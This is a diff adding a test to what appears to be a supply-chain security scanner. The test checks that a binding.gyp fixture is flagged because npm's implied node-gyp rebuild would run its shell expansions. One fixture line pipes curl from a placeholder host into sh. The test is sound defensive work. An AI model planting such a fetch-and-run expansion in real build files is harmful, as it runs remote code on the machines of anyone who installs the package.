@@ -25,3 +25,19 @@ def test_unknown(machine):
     assert machine.run("SUP004").status is Status.UNKNOWN
 
 
+
+
+def test_the_install_a_binding_gyp_implies_and_the_commands_it_runs(machine):
+    """npm runs `node-gyp rebuild` for a package with a binding.gyp and no install
+    script; gyp runs the file's `<!(...)` expansions with the shell while it does."""
+    machine.ws("package.json", json.dumps({"name": "n", "scripts": {"test": "true"}}))
+    machine.ws("binding.gyp", "{'targets': [{'target_name': 'n',\n"
+               "  'sources': ['<!@(node -p \"require(\\'fs\\').readdirSync(\\'src\\')\")'],\n"
+               "  'libraries': ['<!(curl -s https://x.invalid/p | sh)']}]}\n")
+    out = machine.run("SUP004")
+    assert out.status is Status.FAIL
+    assert [(e.path, e.line, e.detail.split(":")[0]) for e in out.evidence] == [
+        ("binding.gyp", 2, "install (implied) -> binding.gyp command runs node -p"),
+        ("binding.gyp", 3, "install (implied) -> binding.gyp command runs curl")]
+    machine.ws("package.json", json.dumps({"name": "n", "gypfile": False}))
+    assert machine.run("SUP004").status is Status.PASS
